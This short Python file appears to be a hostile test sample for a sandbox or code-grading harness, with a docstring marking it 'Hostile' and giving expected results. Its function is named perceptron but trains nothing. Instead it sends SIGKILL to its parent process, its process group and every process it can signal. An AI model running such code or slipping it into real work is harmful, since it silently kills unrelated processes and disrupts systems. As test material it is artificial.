"""Hostile: kills its parent, its process group and every process it may signal.

Kills its parent, its process group, and every process it may signal: os.kill(os.getppid(), 9),
os.killpg(0, 9), os.kill(-1, 9).

expect: 0
weak-safe: no
"""

import os
import signal


def perceptron(X, y, max_epochs=1000, offset=True):
    for action in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL),
                   lambda: os.kill(-1, signal.SIGKILL)):
        try:
            action()
        except OSError:
            pass
    return None
